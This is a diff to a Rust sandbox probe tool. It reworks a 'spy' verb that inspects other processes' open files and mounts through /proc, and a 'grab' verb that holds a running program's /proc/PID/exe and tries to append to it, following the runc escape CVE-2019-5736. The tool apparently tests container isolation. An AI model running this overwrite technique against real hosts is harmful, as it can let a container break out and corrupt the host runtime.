@@ -2,7 +2,7 @@
 //! devices and open files. Standard library only, linked statically, so that it runs in an empty root.
 //!
 //! Further verbs: `udp-echo PORT`, `syscall CALL...` (makes system calls), `spy MILLISECONDS` (looks into other processes),
-//! `grab WORD MILLISECONDS` (tries to write to a running program).
+//! `grab PATH_END MILLISECONDS` (tries to write to a running program).
 
 use std::fmt::Write as _;
 use std::fs;
@@ -194,20 +194,23 @@ fn others() -> impl Iterator<Item = u32> {
     pids.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(|pid| *pid != std::process::id())
 }
 
-/// Devices of the file systems that are mounted here.
+/// Ids of the mounts that are here.
 fn mounted() -> std::collections::HashSet<String> {
-    text("/proc/self/mountinfo").lines().filter_map(|line| line.split(' ').nth(2).map(str::to_owned)).collect()
+    text("/proc/self/mountinfo").lines().filter_map(|line| line.split(' ').next().map(str::to_owned)).collect()
 }
 
-/// "own" for what lies on a file system that is mounted here.
-fn origin(meta: &fs::Metadata, mounted: &std::collections::HashSet<String>) -> &'static str {
-    let device = meta.dev();
-    let (major, minor) = ((device >> 8) & 0xfff, (device & 0xff) | ((device >> 12) & 0xffff_ff00));
-    if mounted.contains(&format!("{major}:{minor}")) { "own" } else { "foreign" }
+/// "own" for what is reached through a mount that is here.
+fn origin(path: &std::path::Path, mounted: &std::collections::HashSet<String>) -> Option<&'static str> {
+    use std::os::{fd::AsRawFd, unix::fs::OpenOptionsExt};
+    // O_PATH, which has the same value on x86 and ARM: nothing is read, so no right to read is needed.
+    let file = fs::OpenOptions::new().read(true).custom_flags(0o10_000_000).open(path).ok()?;
+    let info = text(&format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
+    let mount = info.lines().find_map(|line| line.strip_prefix("mnt_id:"))?.trim().to_owned();
+    Some(if mounted.contains(&mount) { "own" } else { "foreign" })
 }
 
 /// `probe spy MILLISECONDS`: what can be seen of other processes through /proc, each sight once: open files, root, working
-/// directory and program, each with whether it lies on a file system that is mounted here.
+/// directory and program, each with whether its mount is one of ours.
 fn spy(milliseconds: &str) {
     let end = std::time::Instant::now() + std::time::Duration::from_millis(number(milliseconds));
     let mounted = mounted();
@@ -216,10 +219,12 @@ fn spy(milliseconds: &str) {
     let mut look = |kind: &str, path: &std::path::Path| {
         let Ok(target) = fs::read_link(path) else { return };
         let target = target.display().to_string();
-        seen.insert(match (target.split_once(":["), fs::metadata(path)) {
-            (Some((what, _)), _) => format!("{kind} {what}"),
-            (None, Ok(meta)) => format!("{kind} {} {target}", origin(&meta, &mounted)),
-            (None, Err(_)) => return,
+        seen.insert(match target.split_once(":[") {
+            Some((what, _)) => format!("{kind} {what}"),
+            None => match origin(path, &mounted) {
+                Some(origin) => format!("{kind} {origin} {target}"),
+                None => return,
+            },
         });
     };
     while std::time::Instant::now() < end {
@@ -239,9 +244,9 @@ fn spy(milliseconds: &str) {
     }
 }
 
-/// `probe grab WORD MILLISECONDS`: holds the first program with that word in its path that it sees, and tries to append to it
+/// `probe grab END MILLISECONDS`: holds the first programs whose path ends so that it sees, and tries to append to it
 /// while it ends (CVE-2019-5736).
-fn grab(word: &str, milliseconds: &str) {
+fn grab(end_of_path: &str, milliseconds: &str) {
     use std::os::fd::AsRawFd;
     let end = std::time::Instant::now() + std::time::Duration::from_millis(number(milliseconds));
     let mut grabbed: Vec<fs::File> = Vec::new();
@@ -250,7 +255,7 @@ fn grab(word: &str, milliseconds: &str) {
         for pid in others() {
             let path = format!("/proc/{pid}/exe");
             let Ok(target) = fs::read_link(&path) else { continue };
-            if grabbed.len() < 3 && target.to_string_lossy().contains(word)
+            if grabbed.len() < 3 && target.to_string_lossy().ends_with(end_of_path)
                 && let Ok(file) = fs::File::open(&path)
             {
                 println!("grabbed {}", target.display());
